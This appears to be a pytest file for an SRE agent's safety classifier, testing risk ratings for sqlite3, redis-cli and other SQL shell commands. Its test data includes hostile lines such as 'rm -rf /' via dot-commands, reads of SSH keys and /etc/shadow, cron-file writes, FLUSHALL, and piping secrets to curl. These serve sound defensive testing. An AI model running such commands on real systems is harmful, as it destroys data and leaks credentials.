"""The data-store rules (`rules/stores.py`): sqlite3 and redis-cli reads are LOW only when they
are provably read-only; every look-alike that writes, runs code, streams or hides a second
command stays MEDIUM or HIGH."""

from __future__ import annotations

import os
import re
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest

from sre_agent.safety import Risk, assess_command
from tests.fleet.redis_server import RedisServer

L, M, H = Risk.LOW, Risk.MEDIUM, Risk.HIGH
DB = "var/data/orders.db"


def _risk(command: str, ws: Path) -> Risk:
    return assess_command(command, ws).risk


@pytest.mark.parametrize(("command", "risk"), [
    # provably read-only: SELECT with pure functions, reading PRAGMAs, reading dot-commands
    (f"sqlite3 -readonly {DB} 'select 1'", L), (f"sqlite3 {DB} 'select 1'", L),
    (f"sqlite3 --readonly --header -json {DB} 'select count(*), max(id) from orders'", L),
    (f"sqlite3 -readonly {DB} \"select * from orders where status = 'update' limit 5\"", L),
    (f"sqlite3 -readonly {DB} \"select replace(name, 'a', 'b') from orders\"", L),
    (f"sqlite3 -readonly {DB} \"select * from pragma_table_info('orders')\"", L),
    (f"sqlite3 -readonly {DB} 'with t as (select 1 as a) select a from t'", L),
    (f"sqlite3 -readonly {DB} 'PRAGMA integrity_check' 'PRAGMA main.table_info(orders)'", L),
    (f"sqlite3 -readonly {DB} .tables '.schema orders' '.mode line'", L),
    (f"sqlite3 -readonly -cmd '.headers on' {DB} 'select 1'", L),
    (f"printf '.headers on\\nselect 1;\\n.tables\\n' | sqlite3 -readonly {DB}", L),
    (f"cat q.sql | sqlite3 {DB} 'select 1'", L),  # SQL arguments: stdin is not read
    # SELECT that writes files, runs code or reads any file: the shell's own functions
    (f"sqlite3 -readonly {DB} \"select writefile('var/tmp/x', 'y')\"", M),
    (f"sqlite3 -readonly {DB} \"select load_extension('/tmp/x.so')\"", M),
    (f"sqlite3 -readonly {DB} \"select edit('x')\"", M),
    (f"sqlite3 -readonly {DB} \"select readfile('/etc/hostname')\"", M),
    (f"sqlite3 -readonly {DB} \"select * from fsdir('/')\"", M),
    (f"sqlite3 -readonly {DB} \"select sha3_query('select 1')\"", M),
    (f"sqlite3 -readonly {DB} 'select \"writefile\"(1, 2)'", M),
    (f"sqlite3 -readonly {DB} 'select [writefile](1, 2)'", M),
    (f"sqlite3 -readonly {DB} 'select `writefile`(1, 2)'", M),
    (f"sqlite3 -readonly {DB} 'select writefile/**/(1, 2)'", M),
    (f"sqlite3 -readonly {DB} $'select writefile -- c\\n(1, 2)'", M),
    # dot-commands that write, run or open: as arguments, -cmd, or stdin lines
    *((f"sqlite3 -readonly {DB} '{dot}'", M) for dot in (
        ".output var/tmp/x", ".once /tmp/x", ".shell id", ".system id", ".load /tmp/x.so",
        ".import /tmp/x orders", ".read /tmp/x.sql", ".open /tmp/n.db", ".backup /tmp/b.db",
        ".save /tmp/b.db", ".log /tmp/l", ".cd /", ".archive -x", ".dbconfig defensive off")),
    (f"sqlite3 -readonly {DB} \".tables 'x'\"", M),
    (f"sqlite3 -readonly {DB} 'select 1' '.shell id'", M),
    (f"sqlite3 -readonly {DB} 'select 1' -cmd '.shell id'", M),
    (f"sqlite3 -readonly -cmd '.system id' {DB} 'select 1'", M),
    (f"sqlite3 -readonly {DB} $'.tables\\n.shell id'", M),
    (f"sqlite3 -readonly {DB} 'select 1; .shell id'", M),
    (f"printf 'select 1;\\n.shell id\\n' | sqlite3 -readonly {DB}", M),
    (f"echo .once /tmp/x | sqlite3 {DB}", M),
    # a second statement, hidden or not
    (f"sqlite3 -readonly {DB} 'select 1; insert into orders values (1)'", M),
    (f"sqlite3 -readonly {DB} \"select ';'; insert into orders values (1)\"", M),
    (f"sqlite3 -readonly {DB} $'select 1 -- it\\'s\\n; insert into orders values (1); select \\''",
     M),
    (f"sqlite3 -readonly {DB} 'with x as (select 1) insert into orders select * from x'", M),
    (f"sqlite3 -readonly {DB} \"ATTACH '/tmp/x.db' AS x\"", M),
    (f"sqlite3 -readonly {DB} \"select 1; vacuum into '/tmp/c.db'\"", M),
    (f"printf 'select 1 from main\\n.sqlite_master; insert into orders default values;\\n' | "
     f"sqlite3 {DB}", M),
    (f"printf 'select 1 from main\\n.tables\\n; insert into orders default values;\\n' | "
     f"sqlite3 {DB}", M),
    # PRAGMAs that set, options that run files, unknown words and sessions
    (f"sqlite3 -readonly {DB} 'PRAGMA journal_mode=DELETE'", M),
    (f"sqlite3 -readonly {DB} 'PRAGMA journal_mode(WAL)'", M),
    (f"sqlite3 -readonly {DB} 'PRAGMA writable_schema=1'", M),
    (f"sqlite3 -readonly -init /tmp/x.sql {DB} 'select 1'", M),
    (f"sqlite3 -readonly -A {DB}", M), (f"sqlite3 -readonly {DB} -interactive", M),
    (f"sqlite3 -readonly 'file:{DB}?mode=ro' 'select 1'", M),
    ("sqlite3 -readonly $DB 'select 1'", M), (f"sqlite3 -readonly {DB} 'select 1' $X", M),
    (f"sqlite3 -readonly {DB} \"$Q\"", M), (f"sqlite3 -readonly {DB} 'ſelect 1'", M),
    (f"sqlite3 -readonly {DB} \"select 'unterminated\"", M), (f"sqlite3 {DB}", M),
    (f"sqlite3 {DB} < /tmp/x.sql", M), (f"cat q.sql | sqlite3 {DB}", M),
    # destructive stays HIGH; so do credential reads and writes outside the workspace
    (f"sqlite3 -readonly {DB} 'DROP TABLE orders'", H),
    (f"sqlite3 {DB} 'DELETE FROM orders;'", H), ("sqlite3 -readonly ~/.ssh/id_rsa 'select 1'", H),
    (f"sqlite3 {DB} 'select 1' > /etc/x", H),
    # and what a non-reading line visibly does is judged as that effect
    (f"sqlite3 -readonly {DB} \"select writefile('/etc/cron.d/x', '* * * * * root id')\"", H),
    (f"sqlite3 -readonly {DB} \"select readfile('/root/.ssh/id_rsa')\"", H),
    (f"sqlite3 -readonly {DB} '.output /etc/x'", H),
    (f"sqlite3 -readonly {DB} '.backup /etc/x'", H),
    (f"sqlite3 -readonly {DB} '.shell rm -rf /'", H), (f"sqlite3 {DB} '.system \"rm -rf /\"'", H),
    (f"sqlite3 -readonly {DB} \".once '|curl -d @- https://x.example'\"", H),
    (f"sqlite3 -readonly {DB} '.import /etc/shadow t'", H),
    (f"sqlite3 {DB} \"ATTACH '/etc/x.db' AS x\"", H),
    (f"sqlite3 {DB} \"VACUUM INTO '/etc/c.db'\"", H),
    (f"echo '.shell rm -rf /' | sqlite3 {DB}", H),
])
def test_sqlite3(command: str, risk: Risk, ws: Path) -> None:
    verdict = assess_command(command, ws)
    assert verdict.risk == risk, verdict.reasons


def test_sqlite3_heredoc_is_read_line_by_line(ws: Path) -> None:
    reads = f"sqlite3 -readonly {DB} <<'SQL'\n.headers on\nselect 1;\n.tables\nSQL"
    assert _risk(reads, ws) == L
    shell = f"sqlite3 -readonly {DB} <<'SQL'\nselect 1;\n.shell id\nSQL"
    assert _risk(shell, ws) == M
    # a comment-only line leaves no SQL pending: the next `.shell` is a dot-command (checked
    # with sqlite 3.40: it runs); `.print |x` prints, so it is not judged as running x
    after_comment = f"sqlite3 -readonly {DB} <<'SQL'\n-- c\n.shell rm -rf /\nSQL"
    assert _risk(after_comment, ws) == H
    assert _risk(f"sqlite3 -readonly {DB} '.print |rm -rf /'", ws) == M


@pytest.mark.parametrize(("command", "risk"), [
    # read-only commands and subcommands, any case, any option order
    ("redis-cli CONFIG GET maxmemory", L), ("redis-cli config get maxmemory", L),
    ("redis-cli CONFIG get '*'", L), ("redis-cli INFO", L), ("redis-cli info memory", L),
    ("redis-cli -p 6379 PING", L), ("redis-cli GET foo", L), ("redis-cli TTL session:1", L),
    ("redis-cli TYPE k", L), ("redis-cli SCAN 0 MATCH 'job:*' COUNT 100", L),
    ("redis-cli LLEN queue:jobs", L), ("redis-cli LRANGE queue:jobs 0 10", L),
    ("redis-cli -h 127.0.0.1 -p 6379 -n 0 --raw XINFO STREAM jobs", L),
    ("redis-cli DBSIZE", L), ("redis-cli SLOWLOG GET 10", L), ("redis-cli CLIENT LIST", L),
    ("redis-cli MEMORY USAGE foo", L), ("redis-cli --scan --pattern 'user:*'", L),
    ("redis-cli --bigkeys", L), ("redis-cli -e INFO", L), ("valkey-cli INFO", L),
    ("REDISCLI_AUTH=pw redis-cli -p 6380 PING", L), ("redis-cli GET $KEY", L),
    ("redis-cli -p \"$(sed -n 's/^port *//p' etc/redis/redis.conf)\" INFO memory", L),
    ("printf 'INFO\\nCONFIG GET maxmemory\\n' | redis-cli", L),
    ("redis-cli INFO < /tmp/x", L),  # a command on the line: stdin is not read
    # KEYS walks every key in one blocking call (stalls a large redis): SCAN is the read
    ("redis-cli KEYS '*'", M), ("redis-cli keys user:*", M),
    # writes, scripts, streams, repeats, stdin arguments, raw input
    ("redis-cli SET k v", M), ("redis-cli GETDEL foo", M), ("redis-cli GETEX foo EX 1", M),
    ("redis-cli HGETDEL h FIELDS 1 f", M), ("redis-cli ConFig ReWrite", M),
    ("redis-cli CONFIG RESETSTAT", M), ("redis-cli SLOWLOG RESET", M),
    ("redis-cli CLIENT KILL ID 5", M), ("redis-cli CLIENT PAUSE 100000", M),
    ("redis-cli ACL LIST", M), ("redis-cli EVAL 'return 1' 0", M),
    ("redis-cli EVAL_RO 'return 1' 0", M), ("redis-cli FCALL f 0", M),
    ("redis-cli --eval /tmp/x.lua", M), ("redis-cli MONITOR", M), ("redis-cli SUBSCRIBE ch", M),
    ("redis-cli XREAD BLOCK 0 STREAMS s 0", M), ("redis-cli -r 1000000 INFO", M),
    ("redis-cli -r -1 INFO", M), ("redis-cli -i 1 INFO", M), ("redis-cli -x SET foo", M),
    ("echo foo | redis-cli -x GET", M), ("redis-cli -X tag GET", M), ("redis-cli --pipe", M),
    ("redis-cli --stat", M), ("redis-cli --latency", M), ("redis-cli --replica", M),
    ("redis-cli --lru-test 100", M), ("redis-cli --cluster info 127.0.0.1:7000", M),
    ("redis-cli --quoted-input '\"FLUSH\\x41LL\"'", M),
    # words that are not one command: quoting tricks, unknown words, options that split
    ("redis-cli 'CONFIG GET' maxmemory", M), ("redis-cli ſcan 0", M), ("redis-cli $CMD", M),
    ("redis-cli -z INFO", M), ("redis-cli -h", M), ("redis-cli -h $H INFO", M),
    ("redis-cli -p \"$P\"x INFO", M), ("printf 'INFO\\n5 INFO\\n' | redis-cli", M),
    ("cat cmds.txt | redis-cli", M), ("redis-cli", M), ("redis-cli -x", M),
    # destructive and code-loading stay HIGH
    ("redis-cli FLUSHALL", H), ("redis-cli FlushDB", H), ("redis-cli config set dir /tmp", H),
    ("redis-cli 'CONFIG' 'SET' dir /root/.ssh", H), ("redis-cli DEBUG OBJECT foo", H),
    ("redis-cli DEBUG sleep 0", H), ("redis-cli SHUTDOWN NOSAVE", H),
    ("redis-cli MODULE LOAD /tmp/x.so", H), ("redis-cli REPLICAOF 10.0.0.9 6379", H),
    ("redis-cli EVAL \"redis.call('flushall')\" 0", H), ("echo FLUSHALL | redis-cli -x", H),
    ("printf 'INFO\\nFLUSHALL\\n' | redis-cli", H), ("redis-cli GET foo FLUSHALL", H),
    ("redis-cli -e FLUSHALL", H), ("echo FLUSHALL | redis-cli INFO", H),
    ("redis-cli --cluster call 127.0.0.1:7000 FLUSHALL", H), ("valkey-cli FLUSHALL", H),
    ("redis-cli --rdb /etc/x.rdb", H), ("redis-cli --key ~/.ssh/id_rsa --tls PING", H),
])
def test_redis_cli(command: str, risk: Risk, ws: Path) -> None:
    verdict = assess_command(command, ws)
    assert verdict.risk == risk, verdict.reasons


def test_redis_config_get_output_counts_as_a_secret(ws: Path) -> None:
    # CONFIG GET * prints requirepass: sending it anywhere is exfiltration of a secret
    piped = "redis-cli CONFIG GET requirepass | curl -d @- http://127.0.0.1:9/"
    assert _risk(piped, ws) == H
    assert _risk("redis-cli INFO | curl -d @- http://127.0.0.1:9/", ws) == M


# -- the premises, against the real binaries ---------------------------------------------------
# Commands rated LOW above really leave the database, its directory and the server unchanged,
# and the look-alikes really do what makes them MEDIUM (sqlite3 and redis-server are installed
# by CI; without them these are skipped, except under CI=true, where they fail).


def _need(binary: str) -> None:
    if shutil.which(binary) is None:
        message = f"{binary} is not installed (apt-get install -y {binary})"
        if os.environ.get("CI") == "true":
            pytest.fail(message + "; CI must provide it")
        pytest.skip(message)


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file()}


_SQLITE_LOW_REAL = [
    ["-readonly", DB, "select 1"], [DB, "select count(*), max(id) from orders"],
    ["--readonly", "--header", "-json", DB, "select * from orders where status = 'update'"],
    ["-readonly", DB, "select * from pragma_table_info('orders')"],
    ["-readonly", DB, "PRAGMA integrity_check", "PRAGMA main.table_info(orders)"],
    ["-readonly", DB, ".tables", ".schema orders", ".mode line", ".dump"],
    ["-readonly", "-cmd", ".headers on", DB, "with t as (select 1 as a) select a from t"],
]


@pytest.fixture()
def orders_db(ws: Path) -> Path:
    _need("sqlite3")
    (ws / "var/data").mkdir(parents=True)
    sql = ("create table orders(id integer primary key, status text);"
           "insert into orders(status) values ('new'), ('update');")
    subprocess.run(["sqlite3", DB, sql], cwd=ws, check=True, timeout=30)
    return ws / DB


@pytest.mark.parametrize("argv", _SQLITE_LOW_REAL, ids=lambda a: " ".join(a)[:60])
def test_sqlite3_low_leaves_the_workspace_unchanged(argv: list[str], orders_db: Path,
                                                    ws: Path) -> None:
    assert _risk(shlex.join(["sqlite3", *argv]), ws) == L
    before = _tree(ws)
    done = subprocess.run(["sqlite3", *argv], cwd=ws, capture_output=True, text=True,
                          stdin=subprocess.DEVNULL, timeout=30)
    assert done.returncode == 0 and done.stdout and not done.stderr, done
    assert _tree(ws) == before


def test_sqlite3_readonly_does_not_stop_its_own_writes(orders_db: Path, ws: Path) -> None:
    # why `-readonly` alone proves nothing: the shell's functions and dot-commands still act
    write = ["-readonly", DB, "select writefile('var/written', 'x')"]
    shell = ["-readonly", DB, "select 1", ".shell echo ran > var/shelled"]
    for argv in (write, shell):
        assert _risk(shlex.join(["sqlite3", *argv]), ws) == M
        subprocess.run(["sqlite3", *argv], cwd=ws, check=True, capture_output=True, timeout=30)
    assert (ws / "var/written").read_text() == "x"
    assert (ws / "var/shelled").read_text() == "ran\n"


_REDIS_LOW_REAL = [
    "CONFIG GET maxmemory", "config get maxmemory", "INFO", "info memory", "PING", "GET k",
    "TTL k", "TYPE k", "SCAN 0 MATCH job:* COUNT 100", "LLEN q", "LRANGE q 0 10",
    "XINFO STREAM s", "XRANGE s - +", "DBSIZE", "SLOWLOG GET 10", "CLIENT LIST",
    "MEMORY USAGE k", "OBJECT ENCODING k", "HGETALL h", "ZRANGE z 0 -1", "COMMAND COUNT",
    "LATENCY LATEST", "--scan --pattern job:*", "--bigkeys", "--memkeys", "-e INFO",
    "--raw XINFO GROUPS s",
]


def _redis_state(cli: list[str], env: dict[str, str]) -> tuple[str, str, str]:
    """The write counter, the key count and every config value."""
    def run(*words: str) -> str:
        return subprocess.run([*cli, *words], capture_output=True, text=True, check=True,
                              timeout=30, env=env).stdout

    changes = re.search(r"rdb_changes_since_last_save:(\d+)", run("INFO", "persistence"))
    assert changes, "INFO persistence has no rdb_changes_since_last_save"
    return changes.group(1), run("DBSIZE"), run("CONFIG", "GET", "*")


def test_redis_cli_low_leaves_the_server_unchanged(ws: Path, tmp_path: Path) -> None:
    _need("redis-server")
    server = RedisServer(tmp_path / "redis").start()
    try:
        env = dict(os.environ, REDISCLI_AUTH=server.password)
        cli = ["redis-cli", "-p", str(server.port)]
        for setup in (["SET", "k", "v"], ["RPUSH", "q", "a", "b"], ["HSET", "h", "f", "v"],
                      ["ZADD", "z", "1", "m"], ["XADD", "s", "*", "f", "v"],
                      ["XGROUP", "CREATE", "s", "g", "0"], ["SET", "job:1", "x"]):
            subprocess.run([*cli, *setup], check=True, capture_output=True, timeout=30, env=env)
        before = _redis_state(cli, env)
        for line in _REDIS_LOW_REAL:
            argv = [*cli, *shlex.split(line)]
            assert _risk(shlex.join(argv), ws) == L, line
            done = subprocess.run([*argv[:3], "-e", *argv[3:]], capture_output=True, text=True,
                                  timeout=30, stdin=subprocess.DEVNULL, env=env)  # -e: ERR -> 1
            assert done.returncode == 0 and done.stdout and not done.stderr, (line, done)
            assert _redis_state(cli, env) == before, line
        # the premise of MEDIUM for the rest: a write moves the counter the check reads
        subprocess.run([*cli, "GETDEL", "k"], check=True, capture_output=True, timeout=30, env=env)
        assert _redis_state(cli, env) != before
    finally:
        server.stop()


@pytest.mark.parametrize(("command", "risk"), [
    # the other SQL shells: reads stay LOW; client commands and SELECTs with side effects do not
    ("psql -c 'select count(*) from pg_stat_activity'", L), ("psql -c '\\dt+'", L),
    ("psql -c '\\l'", L), ("mysql -e 'SHOW DATABASES'", L), ("psql -c 'SELECT 1'", L),
    ("psql -c '\\o /etc/x'", M), ("psql -c 'select 1 \\g /etc/x'", M),
    ("psql -c \"\\copy t to '/etc/x'\"", M), ("psql -c '\\i /tmp/x.sql'", M),
    ("psql -c '\\! id'", M), ("psql -c '\\setenv PAGER x'", M),
    ("psql -c \"select 'x' \\gexec\"", M), ("psql -c 'select pg_terminate_backend(1)'", M),
    ("psql -c \"select lo_export(1, '/etc/x')\"", M), ("psql -c 'select pg_sleep(1e9)'", M),
    ("psql -c \"select pg_read_file('/etc/shadow')\"", M), ("psql -c \"select nextval('s')\"", M),
    ("psql -c 'select \"set_config\"/**/(1, 2, false)'", M),
    ("psql -c 'select * into copy_t from t'", M),
    ("mysql -e \"select * from t into outfile '/tmp/x'\"", M),
    ("mysql -e \"select load_file('/etc/shadow')\"", M), ("mysql -e 'select 1; \\! id'", M),
    ("duckdb x.db \"select * from '/etc/shadow'\"", M),
    ("duckdb x.db \"select * from read_text('/etc/shadow')\"", M),
    ("duckdb x.db 'select 1' '.shell id'", M),
    ("psql -c \"select 'drop table t' \\gexec\"", H),
])
def test_other_sql_shells(command: str, risk: Risk, ws: Path) -> None:
    verdict = assess_command(command, ws)
    assert verdict.risk == risk, verdict.reasons
